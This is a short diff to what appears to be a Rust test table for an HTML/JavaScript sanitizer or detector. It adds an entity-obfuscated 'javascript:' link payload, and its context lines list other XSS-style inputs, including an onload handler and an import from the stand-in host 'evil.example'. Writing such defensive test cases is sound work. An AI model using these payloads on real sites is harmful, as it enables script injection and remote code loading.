@@ -44,6 +44,7 @@ static META: Meta = Meta {
         "<math><annotation-xml encoding=\"text/html\"><b>",
         "<svg><foreignObject><body xmlns=\"http://www.w3.org/1999/xhtml\">",
         "<body onload = 'go()'>",
+        "<a href=\"javascript&colon;alert(1)\">x</a>",
         "await import('https://evil.example/x.mjs')",
     ],
     passes: &[
